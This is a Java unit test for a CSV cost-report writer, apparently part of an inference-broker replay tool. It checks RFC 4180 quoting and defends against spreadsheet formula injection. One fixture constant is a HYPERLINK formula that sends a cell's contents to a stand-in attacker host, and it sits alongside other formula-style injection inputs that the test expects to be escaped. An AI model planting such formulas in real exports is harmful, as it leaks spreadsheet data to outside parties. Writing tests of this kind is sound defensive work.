package io.inferbroker.replay.internal;

import static org.assertj.core.api.Assertions.assertThat;

import io.inferbroker.replay.CostReport;
import io.inferbroker.replay.CostRow;
import io.inferbroker.replay.GroupBy;
import io.inferbroker.replay.Percentiles;
import io.inferbroker.replay.ReplayRange;
import io.inferbroker.replay.ReportFormat;
import io.inferbroker.replay.ReportWriters;
import io.inferbroker.replay.SkippedRecords;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.TreeMap;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class CostCsvTest {
    private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")";

    @Test
    void shouldWriteTheHeaderAndRowsAsRfc4180() {
        String csv = csv(row(List.of("acme", "m1", "w1"), "1.5", "1"));

        assertThat(csv)
                .isEqualTo("tenant,model,worker,jobs,succeeded,failed,expired,prompt_tokens,completion_tokens,"
                        + "gpu_seconds,cost,repriced_cost,difference,latency_p50_ms,latency_p95_ms,latency_p99_ms,"
                        + "ttft_p50_ms,ttft_p95_ms,ttft_p99_ms,failure_rate,expiry_rate\r\n"
                        + "acme,m1,w1,2,1,1,0,10,20,0.500,1.5,1,-0.5,12.0,40.0,50.0,3.0,4.0,5.0,0.5000,0.0000\r\n");
    }

    @Test
    void shouldQuoteCarriageReturnsQuotesAndCommasSoThatTheCellsReadBackWhole() throws IOException {
        String csv = csv(
                row(List.of("acme, inc", "say \"hi\"", "w\r1"), "1", "1"), row(List.of("t\n2", "m", "w"), "1", "1"));

        assertThat(csv).contains("\"acme, inc\",\"say \"\"hi\"\"\",\"w\r1\",");
        List<CSVRecord> records = read(csv);
        assertThat(records).hasSize(2);
        assertThat(records.get(0).get("tenant")).isEqualTo("acme, inc");
        assertThat(records.get(0).get("model")).isEqualTo("say \"hi\"");
        assertThat(records.get(0).get("worker")).isEqualTo("w\r1");
        assertThat(records.get(1).get("tenant")).isEqualTo("t\n2");
        assertThat(records).allSatisfy(r -> assertThat(r.size()).isEqualTo(21));
    }

    @Test
    void shouldKeepATenantOrModelNamedLikeAFormulaFromRunningInASpreadsheet() throws IOException {
        String csv = csv(
                row(List.of(HYPERLINK, "@SUM(A1:A9)", "-"), "2", "1"),
                row(List.of("+1+1", "-2+3", "\tcmd"), "2", "1"),
                row(List.of("\rx", "m", "w"), "2", "1"));

        List<CSVRecord> records = read(csv);
        assertThat(records.get(0).get("tenant")).isEqualTo("'" + HYPERLINK);
        assertThat(records.get(0).get("model")).isEqualTo("'@SUM(A1:A9)");
        assertThat(records.get(0).get("worker"))
                .as("the report's own 'no worker'")
                .isEqualTo("-");
        assertThat(records.get(1).get("tenant")).isEqualTo("'+1+1");
        assertThat(records.get(1).get("model")).isEqualTo("'-2+3");
        assertThat(records.get(1).get("worker")).isEqualTo("'\tcmd");
        assertThat(records.get(2).get("tenant")).isEqualTo("'\rx");
        assertThat(csv).doesNotContain(",=", "\n=", ",@", ",+", "\"=", "\"@");
    }

    @Test
    void shouldLeaveNumbersAsNumbersEvenWhenNegative() throws IOException {
        CSVRecord row = read(csv(row(List.of("acme", "m1", "w1"), "2", "0.75"))).get(0);

        assertThat(row.get("cost")).isEqualTo("2");
        assertThat(row.get("repriced_cost")).isEqualTo("0.75");
        assertThat(row.get("difference")).isEqualTo("-1.25");
    }

    private static String csv(CostRow... rows) {
        CostReport report = new CostReport(
                new ReplayRange(Instant.parse("2026-01-01T00:00:00Z"), Instant.parse("2026-01-02T00:00:00Z")),
                List.of(GroupBy.TENANT, GroupBy.MODEL, GroupBy.WORKER),
                "USD",
                true,
                List.of(rows),
                row(List.of(), "0", "0"),
                new TreeMap<>(),
                new TreeMap<>(),
                rows.length,
                SkippedRecords.NONE);
        StringBuilder out = new StringBuilder();
        ReportWriters.cost(report, ReportFormat.CSV, out);
        return out.toString();
    }

    private static CostRow row(List<String> key, String cost, String repriced) {
        return new CostRow(
                key,
                2,
                1,
                1,
                0,
                0,
                0,
                10,
                20,
                new BigDecimal("0.5"),
                new BigDecimal(cost),
                Optional.of(new BigDecimal(repriced)),
                new Percentiles(2, 12, 40, 50, 60),
                new Percentiles(1, 3, 4, 5, 5));
    }

    /** The data records, the first line read as their column names. */
    private static List<CSVRecord> read(String csv) throws IOException {
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(csv))) {
            return parser.getRecords();
        }
    }
}
